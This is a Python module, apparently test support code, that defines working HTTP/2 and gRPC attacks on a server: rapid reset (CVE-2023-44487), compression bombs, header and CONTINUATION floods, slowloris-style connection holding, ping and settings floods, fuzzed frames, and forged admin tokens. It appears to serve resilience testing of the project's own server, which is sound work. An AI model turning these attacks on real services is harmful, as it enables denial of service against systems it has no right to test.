"""Peers that mean harm. An attack is a coroutine that goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import json
import os
import random
import resource
import subprocess
import sys
import tempfile
from collections.abc import Awaitable, Callable, Iterable, Iterator, Mapping
from contextlib import suppress
from dataclasses import asdict, dataclass
from functools import cache
from pathlib import Path
from typing import TypeAlias

import grpc

from support import hostile_messages as messages
from support.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_FRAME,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    grpc_message,
    header_block,
    literal,
    request_headers,
    setting,
)
from support.identities import Issuer, with_random_signature

IDLE_CONNECTIONS = 10_000
FAILED_AUTHENTICATION = "failed authentication"
"""The attack that is one only on a server that asks who calls."""
_GET = "/yandex.cloud.operation.OperationService/Get"
_WATCH = "/opservice.v1.OperationRecordService/Watch"
_LIST = "/opservice.v1.OperationRecordService/List"
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_HELLO = PREFACE + frame(SETTINGS)
_CANCEL = (8).to_bytes(4, "big")
_NICEST = 19
_FITS = 60_000
"""Bytes of a request that a stream's window takes at once. gRPC's own client sends the larger ones."""
_PATIENCE = 0.2
"""Seconds that an attack waits for answers to what it sent before it sends more."""


@dataclass
class Done:
    """What an attack has sent."""

    connections: int = 0
    held: int = 0
    """Connections that were still open at the end, of an attack that only holds them."""
    bytes: int = 0
    calls: int = 0


class Target:
    """The server, for so many seconds, and what was done to it."""

    def __init__(self, address: str, seconds: float) -> None:
        self.address = address
        self.done = Done()
        self._seconds = seconds
        self._timeout = asyncio.timeout(None)

    async def suffer(self, attack: Attack) -> None:
        with suppress(TimeoutError):
            async with self._timeout:
                self._begin()
                await attack(self)

    def _begin(self) -> None:
        self._timeout.reschedule(asyncio.get_running_loop().time() + self._seconds)

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        host, port = self.address.rsplit(":", 1)
        connection = await asyncio.open_connection(host, int(port))
        self.done.connections += 1
        return connection

    async def pour(self, make: Callable[[], Iterable[bytes]], *, reads: bool = True) -> None:
        """Connects again and again, and sends what is made for each connection."""
        while True:
            with suppress(OSError):
                reader, writer = await self.connect()
                answers = asyncio.create_task(discard(reader if reads else None))
                try:
                    for chunk in make():
                        writer.write(chunk)
                        self.done.bytes += len(chunk)
                        await writer.drain()
                    await asyncio.wait([answers], timeout=_PATIENCE)
                finally:
                    answers.cancel()
                    writer.transport.abort()
            await asyncio.sleep(0)

    async def call(self, requests: Callable[[], tuple[str, bytes]]) -> None:
        """Calls with any bytes for a request, by gRPC's own client; whatever is answered is well."""
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        async with grpc.aio.insecure_channel(self.address, options) as channel:
            while True:
                path, request = requests()
                self.done.calls += 1
                self.done.bytes += len(request)
                with suppress(grpc.RpcError):
                    await channel.unary_unary(path)(request, timeout=10)  # type: ignore[arg-type] # its stubs know no bytes

    async def hold(self, count: int, opening: bytes, *, reads: bool = True) -> None:
        """Opens so many connections, says the opening on each, and then nothing.

        The time begins once they are open.
        """
        self._timeout.reschedule(None)
        held = []
        for _ in range(count):
            with suppress(OSError):
                reader, writer = await self.connect()
                writer.write(opening)
                self.done.bytes += len(opening)
                held.append((writer, asyncio.create_task(discard(reader if reads else None))))
        self._begin()
        try:
            await asyncio.Event().wait()
        finally:
            self.done.held += sum(not answers.done() for _, answers in held)
            for writer, answers in held:
                answers.cancel()
                writer.transport.abort()


Attack: TypeAlias = "Callable[[Target], Awaitable[None]]"


async def discard(reader: asyncio.StreamReader | None) -> None:
    """Reads until the server hangs up; without a reader it reads nothing, for ever."""
    if reader is None:
        await asyncio.Event().wait()
        return
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


def _repeated(chunk: bytes) -> Callable[[], Iterator[bytes]]:
    """The chunk, for as long as the connection lasts."""

    def make() -> Iterator[bytes]:
        yield _HELLO
        while True:
            yield chunk

    return make


def _random_bytes() -> Iterator[bytes]:
    yield random.choice([b"", PREFACE, _HELLO])
    for _ in range(50):
        yield random.randbytes(random.randrange(1, 500))


def _random_frames() -> Iterator[bytes]:
    """Frames of every kind whose payloads and flags are random, some with a wrong length."""
    yield _HELLO
    for _ in range(100):
        made = frame(
            random.randrange(12),
            random.randrange(256),
            random.choice([0, 1, 2, 3, random.randrange(2**31)]),
            random.randbytes(random.randrange(100)),
        )
        yield made[: random.choice([len(made), len(made), len(made), random.randrange(len(made))])]


def _broken_grpc_frames() -> Iterator[bytes]:
    yield _HELLO
    for stream in range(1, 200, 2):
        message = random.randbytes(random.randrange(30))
        body = random.choice(
            [
                b"",
                b"\0\0",
                grpc_message(message, length=len(message) + 1),
                grpc_message(message, length=max(0, len(message) - 1)),
                grpc_message(message, length=2**32 - 1),
                grpc_message(message, flag=1),
                grpc_message(message, flag=255),
                grpc_message(message) * 3,
            ]
        )
        encoding = random.choice([{}, {"grpc-encoding": b"gzip"}, {"grpc-encoding": b"none"}])
        yield request_headers(stream, _GET, encoding)
        yield frame(DATA, END_STREAM, stream, body)


def _large_headers() -> Iterator[bytes]:
    """More than the server takes, in every way that HTTP/2 has to say it."""
    yield _HELLO
    start = frame(HEADERS, 0, 1, header_block(_GET, {}))
    remembered = frame(HEADERS, END_HEADERS, 1, literal("x-large", bytes(4000), indexed=True))
    bomb = frame(HEADERS, END_HEADERS | END_STREAM, 3, b"\xbe" * LARGEST_FRAME)
    many = b"".join(literal(f"x-{number}", b"x") for number in range(1000))
    yield from random.choice(
        [
            [request_headers(1, _GET, {"x-large": bytes(10_000)})],
            [request_headers(1, _GET, {f"x-{number}": b"x" for number in range(500)})],
            [remembered, bomb * 50],
            [start, *[frame(CONTINUATION, 0, 1, many)] * 50],
            [start, *[frame(CONTINUATION, 0, 1, bytes(LARGEST_FRAME))] * 50],
            [start, *[frame(CONTINUATION, 0, 1) * 1000] * 500],
            [frame(HEADERS, END_HEADERS, 1, b"\x3f\xe1\x1f" * 5000)],
        ]
    )


def _rapid_resets() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are taken back as soon as they are made."""
    yield _HELLO
    yield from _resets()


@cache
def _resets() -> list[bytes]:
    """Made once, so that the attack does little but send. 10,000 calls."""
    request = grpc_message(b"")
    made = [
        request_headers(stream, _GET)
        + frame(DATA, END_STREAM, stream, request)
        + frame(RST_STREAM, 0, stream, _CANCEL)
        for stream in range(1, 20_000, 2)
    ]
    return [b"".join(made[start : start + 100]) for start in range(0, len(made), 100)]


@cache
def _compressed_bomb() -> list[bytes]:
    """A few kilobytes that are many megabytes."""
    headers = request_headers(1, _GET, {"grpc-encoding": b"gzip"})
    return [_HELLO, headers, *messages.compressed_bomb()]


def _malformed_calls() -> Iterator[bytes]:
    yield _HELLO
    for stream in range(1, 200, 2):
        path, request = messages.malformed()
        while len(request) > _FITS:
            path, request = messages.malformed()
        message = grpc_message(request)
        parts = [message[at : at + LARGEST_FRAME] for at in range(0, len(message), LARGEST_FRAME)]
        yield request_headers(stream, path) + b"".join(
            frame(DATA, 0, stream, part) for part in parts
        )
        yield frame(DATA, END_STREAM, stream)


def _fuzzed() -> Iterable[bytes]:
    """All of these by turns, in no order."""
    kinds: list[Callable[[], Iterable[bytes]]] = [
        _random_bytes,
        _random_frames,
        _broken_grpc_frames,
        _malformed_calls,
        _compressed_bomb,
        _large_headers,
    ]
    return random.choice(kinds)()


async def _slow_readers(target: Target) -> None:
    """Ask for much and take nothing: no window for the answers, and at last no read from the socket."""
    async with grpc.aio.insecure_channel(target.address) as channel:
        get = await messages.large_operation(channel)
    hello = PREFACE + frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 0))
    asked = b"".join(
        request_headers(stream, random.choice([_GET, _WATCH]))
        + frame(DATA, END_STREAM, stream, grpc_message(get))
        for stream in range(1, 200, 2)
    )
    await asyncio.gather(
        target.hold(5, hello + asked),
        target.hold(5, _HELLO + asked, reads=False),
    )


async def _slow_writers(target: Target) -> None:
    """Begin, and never end: half a preface, half a header, and half of each of 100 messages."""
    block = header_block(_GET, {})
    half = b"".join(
        request_headers(stream, _GET)
        + frame(DATA, 0, stream, grpc_message(bytes(600), length=1 << 20))
        for stream in range(1, 200, 2)
    )
    await asyncio.gather(
        target.hold(100, PREFACE[:10]),
        target.hold(100, PREFACE),
        target.hold(100, _HELLO + frame(HEADERS, 0, 1, block)),
        target.hold(100, _HELLO + frame(HEADERS, END_HEADERS, 1, block)[:20]),
        target.hold(10, _HELLO + half),
    )


async def _idle(target: Target) -> None:
    await target.hold(IDLE_CONNECTIONS, _HELLO)


def _inflated_requests() -> Iterator[bytes]:
    """Small on the wire, large once decompressed, and larger once decoded."""
    yield _HELLO
    for stream in range(1, 20, 2):
        path, request = random.choice(messages.inflated())
        yield request_headers(stream, path, {"grpc-encoding": b"gzip"})
        yield frame(DATA, END_STREAM, stream, grpc_message(request, flag=1))


def _reflection_streams() -> Iterator[bytes]:
    """As many streams as a connection may have, with questions in each."""
    yield _HELLO
    question = grpc_message(b"\x22\x1e" + b"opservice.v1.ProducerService\0\0")
    for stream in range(1, 200, 2):
        yield request_headers(stream, _REFLECTION)
        yield frame(DATA, 0, stream, question * 10)


@cache
def _forged() -> str:
    """By a key of the attacker's own, under the name that the server's has."""
    with tempfile.TemporaryDirectory() as made:
        return Issuer(Path(made)).token("eve", "admin:*")


def _failed_authentication() -> Iterator[bytes]:
    """Calls with tokens that only a check of the signature tells from good ones, no two the same."""
    yield _HELLO
    for stream in range(1, 200, 2):
        token = with_random_signature(_forged())
        yield request_headers(stream, _GET, {"authorization": b"Bearer " + token.encode()})
        yield frame(DATA, END_STREAM, stream, grpc_message(b""))


async def _lists(target: Target) -> None:
    """More at once than are read at once, again and again."""
    await asyncio.gather(
        *[target.call(lambda: (_LIST, b"\x0a\x01-\x10\xe8\x07")) for _ in range(16)]
    )


async def _malformed(target: Target) -> None:
    await asyncio.gather(*[target.call(messages.malformed) for _ in range(8)])


def poured(make: Callable[[], Iterable[bytes]], *, reads: bool = True) -> Attack:
    """What is made, on a few connections at once."""

    async def attack(target: Target) -> None:
        await asyncio.gather(*[target.pour(make, reads=reads) for _ in range(4)])

    return attack


ATTACKS: dict[str, Attack] = {
    "fuzzed bytes": poured(_fuzzed),
    "random bytes": poured(_random_bytes),
    "random frames": poured(_random_frames),
    "broken gRPC frames": poured(_broken_grpc_frames),
    "malformed requests": _malformed,
    "compressed bombs": poured(_compressed_bomb),
    "inflated requests": poured(_inflated_requests),
    "reflection streams": poured(_reflection_streams),
    "lists": _lists,
    FAILED_AUTHENTICATION: poured(_failed_authentication),
    "large headers": poured(_large_headers),
    "rapid resets": poured(_rapid_resets),
    "slow readers": _slow_readers,
    "slow writers": _slow_writers,
    "ping flood": poured(_repeated(frame(PING, payload=bytes(8)) * 500)),
    "ping flood, unread": poured(_repeated(frame(PING, payload=bytes(8)) * 500), reads=False),
    "settings flood": poured(_repeated(frame(SETTINGS, payload=setting(3, 100)) * 500)),
    "empty frames": poured(
        lambda: [
            _HELLO,
            request_headers(1, _GET),
            *[frame(DATA, 0, 1) * 500 + frame(PRIORITY, 0, 1, bytes(5)) * 100] * 10_000,
        ]
    ),
    "window updates": poured(_repeated(frame(WINDOW_UPDATE, payload=(1).to_bytes(4, "big")) * 500)),
    "idle connections": _idle,
}


def launch(
    name: str, address: str, seconds: float, module: str = "support.hostile"
) -> subprocess.Popen[str]:
    """Begins an attack of a module, in a process of its own; stdout has its Done.

    It takes the processor only when nobody else wants it: what it costs the server is to be seen, not
    what it takes from it by running on the same machine.
    """
    command = [sys.executable, "-m", module, name, address, str(seconds)]
    path = os.pathsep.join((str(Path(__file__).parents[1]), os.environ.get("PYTHONPATH", "")))
    environment = {**os.environ, "PYTHONPATH": path}
    return subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True)


async def _suffered(attack: Attack, address: str, seconds: float) -> Done:
    target = Target(address, seconds)
    await target.suffer(attack)
    return target.done


def attack_by_name(attacks: Mapping[str, Attack], name: str, address: str, seconds: str) -> None:
    """What the process of an attack does."""
    os.nice(_NICEST)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    done = asyncio.run(_suffered(attacks[name], address, float(seconds)))
    print(json.dumps(asdict(done)))


if __name__ == "__main__":
    attack_by_name(ATTACKS, *sys.argv[1:])
